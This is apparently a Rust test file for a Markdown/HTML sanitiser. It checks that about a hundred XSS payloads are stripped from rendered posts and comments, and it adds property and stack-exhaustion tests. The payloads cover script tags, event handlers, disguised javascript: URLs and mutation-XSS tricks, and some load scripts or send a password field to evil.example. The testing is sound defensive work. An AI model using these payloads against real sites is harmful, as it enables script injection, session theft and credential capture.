//! What an attacker writes, and what must never come out.

use proptest::prelude::*;
use scraper::{Html, Node};

use super::sanitise::clean;
use super::*;

const FORBIDDEN: [&str; 22] = [
    "script",
    "style",
    "svg",
    "iframe",
    "object",
    "embed",
    "form",
    "button",
    "select",
    "textarea",
    "link",
    "meta",
    "base",
    "template",
    "noscript",
    "title",
    "xmp",
    "plaintext",
    "frame",
    "frameset",
    "noembed",
    "noframes",
];

/// Parses like a browser and names the first thing that could run or take over the page.
fn danger(html: &str) -> Option<String> {
    for node in Html::parse_fragment(html).tree.values() {
        let Node::Element(element) = node else {
            continue;
        };
        let name = element.name();
        if FORBIDDEN.contains(&name) {
            return Some(format!("<{name}>"));
        }
        for (key, value) in element.attrs() {
            if key.starts_with("on")
                || [
                    "style",
                    "srcdoc",
                    "formaction",
                    "action",
                    "srcset",
                    "name",
                    "target",
                    "background",
                    "ping",
                ]
                .contains(&key)
            {
                return Some(format!("{name} {key}"));
            }
            if ["href", "src", "poster", "cite", "xlink:href"].contains(&key)
                && !is_harmless_url(value)
            {
                return Some(format!("{name} {key}={value}"));
            }
            if key == "id"
                && !["h-", "fn-", "fnref-", "user-"]
                    .iter()
                    .any(|p| value.starts_with(p))
            {
                return Some(format!("{name} id={value}"));
            }
        }
        if name == "input"
            && (element.attr("type") != Some("checkbox") || element.attr("disabled").is_none())
        {
            return Some("input".to_owned());
        }
    }
    None
}

/// Reads the scheme as a browser does: leading blanks and controls, and tabs and line breaks
/// anywhere, are skipped; what does not begin like a scheme is a relative address.
fn is_harmless_url(value: &str) -> bool {
    let value: String = value
        .trim_start_matches(|c: char| c <= ' ')
        .chars()
        .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
        .collect();
    let scheme = |s: &str| {
        s.bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"+-.".contains(&b))
    };
    match value.split_once(':') {
        Some((before, _)) if scheme(before) => {
            ["http", "https", "mailto", "tel"].contains(&before.to_ascii_lowercase().as_str())
        }
        _ => true,
    }
}

#[track_caller]
fn assert_harmless(source: &str) {
    for (what, rendered) in [("post", post(source)), ("comment", comment(source))] {
        let Ok(rendered) = rendered else { continue };
        assert_eq!(
            danger(&rendered.html),
            None,
            "{what} of {source:?}:\n{}",
            rendered.html
        );
    }
    let once = clean(source).unwrap();
    assert_eq!(danger(&once), None, "clean of {source:?}:\n{once}");
    assert_eq!(
        clean(&once).unwrap(),
        once,
        "clean of {source:?} is not stable"
    );
}

const PAYLOADS: [&str; 98] = [
    "<a name=\"x\" onclick=run() href=javascript:run()>a</a>",
    "<a name='x\" onclick=\"run()'>a</a>",
    "<noscript><p title=\"</noscript><img src=x onerror=run()>\">",
    "<iframe src='//e.example/\" onload=\"run()'></iframe>",
    "<embed src=javascript:run()><embed src='http://e.example/\"><script>run()</script>'>",
    "<svg><p>\n\n<style><img title=\"</svg><img src=x onerror=run()>\">\n\n</svg>",
    "<script>run()</script>",
    "<SCRIPT/x>run()</SCRIPT>",
    "<scr<script>ipt>run()</scr</script>ipt>",
    "<script src=//evil.example/x.js>",
    "<img src=x onerror=run()>",
    "<img src=x oNeRrOr =run()>",
    "<img/src=x/onerror=run()>",
    "<img src='x' onerror\n=\n'run()'>",
    "<img src=\"x\"onerror=\"run()\">",
    "<img src=javascript:run()>",
    "<img src=`javascript:run()`>",
    "<img srcset='javascript:run() 1x' style='x:url(javascript:run())'>",
    "<svg onload=run()>",
    "<svg><script>run()</script></svg>",
    "<svg><a xlink:href='javascript:run()'><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:run() /></svg>",
    "<svg><foreignObject><iframe src=javascript:run()></foreignObject></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=run()>\">",
    "<math><mtext><table><mglyph><style><img src onerror=run()></style></mglyph></table></mtext></math>",
    "<math><mi xlink:href='javascript:run()'>x</mi></math>",
    "<math><annotation-xml encoding='text/html'><script>run()</script></annotation-xml></math>",
    "<math href='javascript:run()'>x</math>",
    "<iframe src='javascript:run()'></iframe>",
    "<iframe srcdoc='<script>run()</script>'></iframe>",
    "<iframe src=\"https://e.example/&quot;onmouseover=run()\"></iframe>",
    "<iframe src='https://e.example/\"onmouseover=run() x'></iframe>",
    "<iframe src=https://e.example><img src=x onerror=run()></iframe>",
    "<object data=javascript:run()></object>",
    "<embed src=data:text/html,x>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:run()'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(//evil.example/track)'>x</p>",
    "<form action=//evil.example><input name=password><button>Go</button></form>",
    "<input autofocus onfocus=run()>",
    "<input type=image src=x formaction=javascript:run()>",
    "<button popovertarget=x onclick=run()>x</button>",
    "<details open ontoggle=run()>x</details>",
    "<video src=x onerror=run() autoplay><source onerror=run()></video>",
    "<audio src=javascript:run() onloadstart=run()>",
    "<video poster=javascript:run()>",
    "<marquee onstart=run()>x</marquee>",
    "<body onload=run()>",
    "<div onpointerenter=run() tabindex=1 accesskey=x contenteditable>x</div>",
    "<a href=javascript:run()>x</a>",
    "<a href=' javascript:run()'>x</a>",
    "<a href='java\tscript:run()'>x</a>",
    "<a href='java&NewLine;script:run()'>x</a>",
    "<a href='javascript&colon;run()'>x</a>",
    "<a href='&#106;avascript:run()'>x</a>",
    "<a href='&#x0000106;avascript:run()'>x</a>",
    "<a href='\u{1}javascript:run()'>x</a>",
    "<a href='JaVaScRiPt:run()'>x</a>",
    "<a href='vbscript:run()'>x</a>",
    "<a href='data:text/html,<script>run()</script>'>x</a>",
    "<a href='blob:https://e.example/x'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='view-source:javascript:run()'>x</a>",
    "<a target=_blank ping=//evil.example href=//evil.example>x</a>",
    "[x](javascript:run())",
    "[x](<java\tscript:run()>)",
    "[x](&#x6A;avascript:run())",
    "[x](javascript&colon;run())",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x]: javascript:run()\n\n[x]",
    "<javascript:run()>",
    "![x](javascript:run())",
    "![x](data:image/svg+xml,<svg/onload=run()>)",
    "![\"onerror=\"run()](x \"\\\" onerror=run()\")",
    "[x](/a \"x\\\" onmouseover=run() \\\"\")",
    "# <img src=x onerror=run()>\" onclick=\"run()",
    "# x {#\"onclick=run()}",
    "## a\" onmouseover=\"run() {#body}",
    "```\"><script>run()</script>\nx\n```",
    "```rust onload=run()\n</code></pre><script>run()</script>\n```",
    "```html\n</span><img src=x onerror=run()>\n```",
    "$</math><script>run()</script>$",
    "$\\text{<img src=x onerror=run()>}$",
    "$\\href{javascript:run()}{x}$",
    "$\\color{\"onclick=run()}x$",
    "```math\n\\unicode{x} </annotation><script>run()</script>\n```",
    "x[^\"><script>run()</script>]\n\n[^\"><script>run()</script>]: y",
    "- [\"] <input onfocus=run() autofocus>\n- [x] <b onclick=run()>y",
    "| <script> | a |\n|--|--|\n| <img src=x onerror=run()> | `</table><script>` |",
    "> [!NOTE] <img src=x onerror=run()>\n> x",
    "<p id=body name=cookie class='anchor hl-k'>x</p><a id=location>y</a>",
    "<p id=h-x><p id='user-a b'><p id=''>",
    "<!--<img src=\"--><img src=x onerror=run()//\">",
    "<![CDATA[><img src=x onerror=run()>]]>",
    "<template><script>run()</script></template><noscript><p title=\"</noscript><img src=x onerror=run()>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=run()>",
];

#[test]
fn no_payload_survives() {
    for payload in PAYLOADS {
        assert_harmless(payload);
        assert_harmless(&format!("a {payload} b"));
        assert_harmless(&format!("<div title='\n\n{payload}\n\n'>"));
        assert_harmless(&format!(
            "<table><tr><td title=\"\n\n```rust\n{payload}\n```\n\n\">"
        ));
    }
}

#[test]
fn the_check_itself_finds_danger() {
    for bad in [
        "<script>",
        "<p onclick=x>",
        "<a href=' java\nscript:x'>",
        "<p style=x>",
        "<p id=x>",
        "<input>",
        "<svg>",
    ] {
        assert!(danger(bad).is_some(), "{bad}");
    }
    assert_eq!(
        danger("<p id=h-x><a href='/a:b'>x</a><math><mi>x</mi></math>"),
        None
    );
}

#[test]
fn a_token_in_an_attribute_is_never_replaced() {
    let source = "<div title='\n\n```rust\nfn x() {}\n```\n\n$x^2$\n\n- [x] onmouseover=run()\n\n' lang=\"en\">y</div>";
    let html = post(source).unwrap().html;
    assert_eq!(danger(&html), None);
    assert!(
        !html.contains("<span class") && !html.contains("<math"),
        "{html}"
    );
    assert!(!html.contains("tk"), "the token itself is gone too: {html}");
}

#[test]
fn tokens_cannot_be_forged() {
    let forged = "tk00000000000000000000000000000000n0z `tkn0z`\n\n```rust\nfn x() {}\n```";
    let html = post(forged).unwrap().html;
    assert!(
        html.contains("tk00000000000000000000000000000000n0z <code dir=\"ltr\">tkn0z</code></p>"),
        "{html}"
    );
    assert_eq!(html.matches("<span class=\"hl-k\">").count(), 1);
}

#[test]
fn addresses_that_pretend_are_neutral() {
    for address in [
        "//evil.example",
        "/\\evil.example",
        "\\\\evil.example",
        "https:evil.example",
        "/\t/evil.example",
        "https://good.example@evil.example",
        "\u{1}//evil.example",
        "HTTPS://EVIL.EXAMPLE",
    ] {
        let html = clean(&format!("<a href=\"{address}\">x</a>")).unwrap();
        let neutral = !html.contains("href");
        assert!(
            neutral || html.contains("rel=\"ugc nofollow noopener\""),
            "{address:?}: {html}"
        );
    }
}

/// Each would take minutes or overflow the stack if one step were quadratic or recursive; the
/// thread has the stack of a server's worker.
#[test]
fn long_runs_of_one_sign_end() {
    let parts = [
        "[", "![[", "*_", "> ", ">", "- ", "(", "*a", "`", "|", "<", "<b>", "[a](", "![a](", "$",
        "\\[", "a@", "[^a", "^[", "~", "&", "<!--", "#\n", "1. a\n", "> a\n", "``` \n", "|-\n",
    ];
    let attack = move || {
        for part in parts {
            let source = part.repeat(32 * 1024 / part.len());
            if let Ok(rendered) = post(&source) {
                assert_eq!(danger(&rendered.html), None, "{part}");
            }
        }
    };
    let thread = std::thread::Builder::new()
        .stack_size(2 * 1024 * 1024)
        .spawn(attack)
        .unwrap();
    thread.join().expect("no panic and no overflow");
}

fn markup() -> impl Strategy<Value = String> {
    let part = prop_oneof![
        prop::sample::select(PAYLOADS.to_vec()).prop_map(str::to_owned),
        prop::sample::select(vec![
            "<",
            ">",
            "\"",
            "'",
            "=",
            "&",
            "\n",
            "\n\n",
            " ",
            "`",
            "```",
            "$",
            "$$",
            "[",
            "](",
            ")",
            "*",
            "_",
            "|",
            "> ",
            "- ",
            "[x] ",
            "[^1]",
            "[^1]: ",
            "# ",
            "<p>",
            "</p>",
            "<a href=x>",
            "</a>",
            "<b>",
            "</b>",
            "<i id=a>",
            "<table>",
            "<td>",
            "<tr>",
            "</table>",
            "<pre>\n",
            "<marquee>",
            "<button>",
            "<svg>",
            "</svg>",
            "<math>",
            "<select>",
            "<option>",
            "<li>",
            "<form>",
            "<h1>",
            "<nobr>",
            "<applet>",
            "</br>",
            "</p>",
            "<dd>",
            "<ruby><rt>",
            "<!--",
            "-->",
            "<frameset>",
            "<col>",
            "<caption>",
            "<details>",
            "\u{0}",
            "\u{c}",
            "&lt;",
            "é",
        ])
        .prop_map(str::to_owned),
        any::<String>(),
        "[a-z <>/=\"']{0,12}",
    ];
    prop::collection::vec(part, 0..14).prop_map(|parts| parts.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(200))]

    #[test]
    fn nothing_dangerous_comes_out(source in markup()) {
        for rendered in [post(&source), comment(&source)].into_iter().flatten() {
            prop_assert_eq!(danger(&rendered.html), None, "{}", rendered.html);
        }
    }

    #[test]
    fn cleaning_is_a_fixed_point(source in markup()) {
        let once = clean(&source).unwrap();
        prop_assert_eq!(danger(&once), None, "{}", &once);
        prop_assert_eq!(clean(&once).unwrap(), once);
    }

    #[test]
    fn any_text_renders(source in any::<String>()) {
        prop_assert!(post(&source).is_ok());
        prop_assert!(comment(&source).is_ok());
    }
}
